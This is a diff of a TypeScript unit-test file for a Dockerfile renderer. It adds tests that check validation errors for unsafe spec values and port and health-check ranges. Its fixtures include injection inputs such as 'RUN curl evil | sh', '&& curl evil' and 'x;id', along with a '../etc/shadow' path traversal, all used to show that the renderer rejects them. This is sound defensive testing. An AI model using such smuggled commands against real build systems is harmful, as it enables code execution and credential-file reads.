@@ -131,21 +131,139 @@ describe("renderDockerfile", () => {
   });
 
   it.each([
-    ["an env value", (s: Spec) => (s.config.env.LOG_LEVEL = "info\nRUN curl evil | sh")],
-    ["an env key", (s: Spec) => (s.config.env["A\nRUN id"] = "x")],
-    ["the base", (s: Spec) => (s.base = "debian:bookworm-slim\nRUN id")],
-    ["a package version", (s: Spec) => (s.packages.openssl = "3.0 && curl evil")],
-    ["a package name", (s: Spec) => (s.packages["x;id"] = "1.0")],
-    ["a command word", (s: Spec) => (s.app.command = ["node", "a\r\nRUN id"])],
-    ["a sysctl value", (s: Spec) => (s.config.sysctls["net.core.somaxconn"] = "1\n2")],
-    ["the health path", (s: Spec) => (s.app.health.path = "/x y")],
-    ["the port", (s: Spec) => (s.app.port = 80.5)],
-    ["the version", (s: Spec) => (s.app.version = "v1.0.0\u2028x")],
-  ])("throws when validation was bypassed and %s is unsafe", (_what, mutate) => {
+    [
+      "an env value",
+      (s: Spec) => (s.config.env.LOG_LEVEL = "info\nRUN curl evil | sh"),
+      "config.env.LOG_LEVEL: must not contain newlines",
+    ],
+    [
+      "an env key",
+      (s: Spec) => (s.config.env["A\nRUN id"] = "x"),
+      'config.env.A\nRUN id: must not contain newlines',
+    ],
+    [
+      "a secret-looking env key",
+      (s: Spec) => (s.config.env.API_TOKEN = "x"),
+      "config.env.API_TOKEN: looks like a secret",
+    ],
+    [
+      "the base",
+      (s: Spec) => (s.base = "debian:bookworm-slim\nRUN id"),
+      "base: must not contain newlines",
+    ],
+    ["a latest base", (s: Spec) => (s.base = "debian:latest"), "base: must pin a release tag"],
+    [
+      "a package version",
+      (s: Spec) => (s.packages.openssl = "3.0 && curl evil"),
+      "packages.openssl: version must be exact",
+    ],
+    [
+      "a package name",
+      (s: Spec) => (s.packages["x;id"] = "1.0"),
+      "packages.x;id: is not a Debian package name",
+    ],
+    [
+      "a command word",
+      (s: Spec) => (s.app.command = ["node", "a\r\nRUN id"]),
+      "app.command[1]: must not contain newlines",
+    ],
+    [
+      "an empty command word",
+      (s: Spec) => (s.app.command = ["node", ""]),
+      "app.command[1]: must not be empty",
+    ],
+    [
+      "a sysctl value",
+      (s: Spec) => (s.config.sysctls["net.core.somaxconn"] = "1\n2"),
+      "config.sysctls.net.core.somaxconn: must not contain newlines",
+    ],
+    [
+      "a sysctl key",
+      (s: Spec) => (s.config.sysctls["somaxconn"] = "1"),
+      "config.sysctls.somaxconn: must be a dotted kernel parameter",
+    ],
+    ["the name", (s: Spec) => (s.name = "Web"), "name: must match"],
+    [
+      "the health path",
+      (s: Spec) => (s.app.health.path = "/x y"),
+      "app.health.path: must be an HTTP path",
+    ],
+    [
+      "the port",
+      (s: Spec) => (s.app.port = 80.5),
+      "app.port: must be a whole number from 1 to 65535, got 80.5",
+    ],
+    [
+      "port 0",
+      (s: Spec) => (s.app.port = 0),
+      "app.port: must be a whole number from 1 to 65535, got 0",
+    ],
+    [
+      "port 65536",
+      (s: Spec) => (s.app.port = 65536),
+      "app.port: must be a whole number from 1 to 65535, got 65536",
+    ],
+    [
+      "the health interval",
+      (s: Spec) => (s.app.health.intervalSeconds = 301),
+      "app.health.intervalSeconds: must be a whole number from 1 to 300, got 301",
+    ],
+    [
+      "the health timeout",
+      (s: Spec) => (s.app.health.timeoutSeconds = 121),
+      "app.health.timeoutSeconds: must be a whole number from 1 to 120, got 121",
+    ],
+    [
+      "the healthy threshold",
+      (s: Spec) => (s.app.health.healthyThreshold = 0),
+      "app.health.healthyThreshold: must be a whole number from 1 to 10, got 0",
+    ],
+    [
+      "the version",
+      (s: Spec) => (s.app.version = "v1.0.0\u2028x"),
+      "app.version: must not contain newlines",
+    ],
+  ])("throws when validation was bypassed and %s is unsafe", (_what, mutate, message) => {
     const loaded = loadSpec(EXAMPLE);
     const spec = structuredClone(loaded.spec);
     mutate(spec);
-    expect(() => renderDockerfile({ ...loaded, spec }, HASH)).toThrow(/^renderDockerfile: /);
+    expect(() => renderDockerfile({ ...loaded, spec }, HASH)).toThrow(
+      `renderDockerfile: ${message}`,
+    );
+  });
+
+  it("renders every range's ends", () => {
+    const loaded = loadSpec(EXAMPLE);
+    for (const [port, interval, timeout, threshold] of [
+      [1, 1, 1, 1],
+      [65535, 300, 120, 10],
+    ]) {
+      const spec = structuredClone(loaded.spec);
+      spec.app.port = port;
+      spec.app.health = {
+        ...spec.app.health,
+        intervalSeconds: interval,
+        timeoutSeconds: timeout,
+        healthyThreshold: threshold,
+      };
+      const lines = logicalLines(renderDockerfile({ ...loaded, spec }, HASH));
+      expect(lines).toContain(`EXPOSE ${port}`);
+      expect(lines.find((l) => l.startsWith("HEALTHCHECK"))).toMatch(
+        new RegExp(
+          `^HEALTHCHECK --interval=${interval}s --timeout=${timeout}s --retries=${threshold} CMD `,
+        ),
+      );
+    }
+  });
+
+  it("throws on a build-context path other than config/<i>", () => {
+    const loaded = loadSpec(EXAMPLE);
+    for (const contextPath of ["../etc/shadow", "config/x", "xconfig/0", "config/0/x"]) {
+      const configFiles = [{ ...loaded.configFiles[0], contextPath }];
+      expect(() => renderDockerfile({ ...loaded, configFiles }, HASH)).toThrow(
+        "renderDockerfile: contextPath: must be config/<i>",
+      );
+    }
   });
 
   it("throws on a config target that bypassed validation, and on a malformed hash", () => {
